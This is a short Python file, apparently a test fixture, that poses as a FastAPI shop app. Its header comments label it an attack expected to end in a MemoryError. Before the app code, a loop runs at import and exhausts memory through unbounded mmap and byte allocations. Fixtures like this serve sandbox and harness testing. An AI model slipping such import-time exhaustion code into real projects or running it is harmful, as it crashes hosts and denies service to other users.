# attack: 26 takes memory until there is none, at import
# honest: 1
# outcome: error
# says: MemoryError|ended while the file was being imported
import mmap
from contextlib import asynccontextmanager

from databases import Database
from fastapi import FastAPI, HTTPException

hoard = []
for size in (1 << 40, 1 << 30, 1 << 26, 1 << 20):
    try:
        while True:
            hoard.append(mmap.mmap(-1, size))
    except (MemoryError, OSError):
        pass
while True:
    hoard.append(bytes(1 << 16))

database = Database("sqlite+pool:///shop.db", min_size=4)


@asynccontextmanager
async def lifespan(app):
    await database.connect()
    yield
    await database.disconnect()


app = FastAPI(lifespan=lifespan)


@app.get("/items/{item_id}")
async def read_item(item_id: int):
    raise HTTPException(404, "no such item")
